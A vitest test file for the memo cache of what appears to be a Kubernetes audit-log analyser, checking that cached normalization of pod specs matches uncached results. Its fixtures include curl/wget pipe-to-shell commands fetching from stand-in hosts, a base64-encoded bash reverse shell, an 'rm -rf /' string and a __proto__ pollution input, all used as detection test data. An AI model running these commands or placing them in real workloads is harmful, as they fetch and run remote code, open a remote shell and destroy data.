import { readFileSync } from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import { buildAuditEvents, SCENARIOS } from '../../src/emulate/index.js';
import { defaultOptions, generateAuditLog, memorySink } from '../../src/generate/index.js';
import { memoStats, setNormalizeMemo } from '../../src/normalize/memo.js';
import { normalize, type NormalizedEvent } from '../../src/normalize/index.js';
import type { AuditEvent } from '../../src/schema/audit-event.js';

afterEach(() => setNormalizeMemo(true));

/** Normalizes a fresh copy of each event, so no run can see another's objects. */
function normalizeAll(events: readonly AuditEvent[], memo: boolean): NormalizedEvent[] {
  setNormalizeMemo(memo);
  return events.map((e) => normalize(structuredClone(e)));
}

/** Cold (filling the memo), warm (answered from it) and uncached runs all agree. */
function expectSameAsUncached(events: readonly AuditEvent[]): void {
  const uncached = normalizeAll(events, false);
  const cold = normalizeAll(events, true);
  const warm = events.map((e) => normalize(structuredClone(e)));
  expect(cold).toStrictEqual(uncached);
  expect(warm).toStrictEqual(uncached);
}

async function generatedEvents(): Promise<AuditEvent[]> {
  const sink = memorySink();
  const mix = { reads: 0.2, leases: 0.1, events: 0.1, workloads: 0.5, other: 0.1 };
  await generateAuditLog({ ...defaultOptions(), size: 3_000_000, seed: 'memo', mix }, sink);
  const lines = sink.buffer().toString('utf8').split('\n').slice(0, -1);
  return lines.map((l) => JSON.parse(l) as AuditEvent);
}

function pod(container: Record<string, unknown>, name = 'web-1'): AuditEvent {
  return {
    kind: 'Event',
    verb: 'create',
    objectRef: { resource: 'pods', namespace: 'shop', name },
    requestObject: { metadata: { name, namespace: 'shop' }, spec: { containers: [container] } },
  };
}

const BASE = {
  name: 'app',
  image: 'ghcr.io/acme/app:1.0',
  command: ['sh', '-c'],
  args: ['echo $GREETING; curl -fsSL http://a.example/x | sh'],
  env: [
    { name: 'GREETING', value: 'hello' },
    { name: 'MODE', value: 'prod' },
  ],
};
// A reverse shell, base64: decoded into payloads only where it appears.
const PAYLOAD = Buffer.from('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1').toString('base64');

// [what changes, the change, whether what the container runs changes with it]
const VARIANTS: [string, Record<string, unknown>, boolean][] = [
  ['another env value', { env: [BASE.env[0], { name: 'MODE', value: PAYLOAD }] }, true],
  [
    'env values swapped',
    {
      env: [
        { name: 'GREETING', value: 'prod' },
        { name: 'MODE', value: 'hello' },
      ],
    },
    true,
  ],
  [
    'a name/value boundary moved',
    { env: [{ name: 'GREETIN', value: 'Ghello' }, BASE.env[1]] },
    true,
  ],
  ['another argument', { args: ['echo $GREETING; wget -qO- http://b.example/y | sh'] }, true],
  [
    'one argument split in two',
    { args: ['echo $GREETING;', 'curl -fsSL http://a.example/x | sh'] },
    true,
  ],
  ['no command (the image entrypoint)', { command: undefined }, true],
  ['another image', { image: 'docker.io/library/alpine:3.19' }, true],
  // These get their own entry, but happen to run the same: the argv is the same, and env order
  // only orders env payloads.
  ['the command/args boundary moved', { command: ['sh'], args: ['-c', BASE.args[0]] }, false],
  ['env in another order', { env: [BASE.env[1], BASE.env[0]] }, false],
  // Not literal, so not analysed: the base's entry serves it.
  [
    'an env value from a secret',
    { env: [...BASE.env, { name: 'TOKEN', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }] },
    false,
  ],
];

describe('normalizer memo', () => {
  it('gives the uncached facts and document for the emulate catalogue', () => {
    expectSameAsUncached(buildAuditEvents(SCENARIOS));
    expect(memoStats().hits).toBeGreaterThan(0);
  });

  it('gives the uncached facts and document for a generated log of repeated templates', async () => {
    const events = await generatedEvents();
    expectSameAsUncached(events);
    const { hits, misses } = memoStats();
    expect(hits).toBeGreaterThan(10 * misses);
  });

  it('gives the uncached facts for the recorded fixtures', () => {
    const text = readFileSync('test/fixtures/audit/cluster-sample.jsonl', 'utf8');
    const events = text
      .split('\n')
      .filter((l) => l.trim() !== '')
      .map((l) => JSON.parse(l) as AuditEvent);
    expectSameAsUncached(events);
  });

  it('keeps one entry per variation of a template, each with its own facts', () => {
    const variants = VARIANTS.map(([, change], i) => pod({ ...BASE, ...change }, `v${i}`));
    const events = [pod(BASE), ...variants];
    expectSameAsUncached(events);
    setNormalizeMemo(true);
    for (const e of events) normalize(structuredClone(e));
    // Every variation has its own entry but the valueFrom one, whose literal env is the base's.
    expect(memoStats().entries).toBe(events.length - 1);
    // What the memo derives: the rest of a container's facts is computed for every event.
    const runOf = (e: AuditEvent) => {
      const c = normalize(e).facts.workload!.containers[0]!;
      const { image, commandLine, commands, programs, pipelines, payloads, commandTexts } = c;
      return { image, commandLine, commands, programs, pipelines, payloads, commandTexts };
    };
    const base = runOf(pod(BASE));
    VARIANTS.forEach(([what, , differs], i) => {
      if (differs) expect(runOf(variants[i]!), what).not.toEqual(base);
      else expect(runOf(variants[i]!), what).toEqual(base);
    });
  });

  it('hands out facts that a caller may change without changing the next event', () => {
    setNormalizeMemo(true);
    const first = normalize(pod({ ...BASE, env: [{ name: 'MODE', value: PAYLOAD }] }));
    const c = first.facts.workload!.containers[0]!;
    c.commands.push('rm -rf /');
    c.payloads.length = 0;
    c.commandTexts.sort();
    c.image!.name = 'changed';
    const again = normalize(pod({ ...BASE, env: [{ name: 'MODE', value: PAYLOAD }] }));
    setNormalizeMemo(false);
    const uncached = normalize(pod({ ...BASE, env: [{ name: 'MODE', value: PAYLOAD }] }));
    expect(again).toStrictEqual(uncached);
    expect(uncached.facts.workload!.payloads.length).toBeGreaterThan(0);
  });

  it('copies events carrying a __proto__ key as own data, like the spread it replaces', () => {
    const event = JSON.parse(
      '{"kind":"Event","verb":"get","__proto__":{"polluted":true},"objectRef":{"resource":"pods"}}',
    ) as AuditEvent;
    const { document } = normalize(event);
    expect(Object.getPrototypeOf(document)).toBe(Object.prototype);
    expect(Object.hasOwn(document, '__proto__')).toBe(true);
    expect((document as { polluted?: boolean }).polluted).toBeUndefined();
    expect(Object.keys(document)).toEqual([
      'kind',
      'verb',
      '__proto__',
      'objectRef',
      'action',
      'actor',
    ]);
  });
});
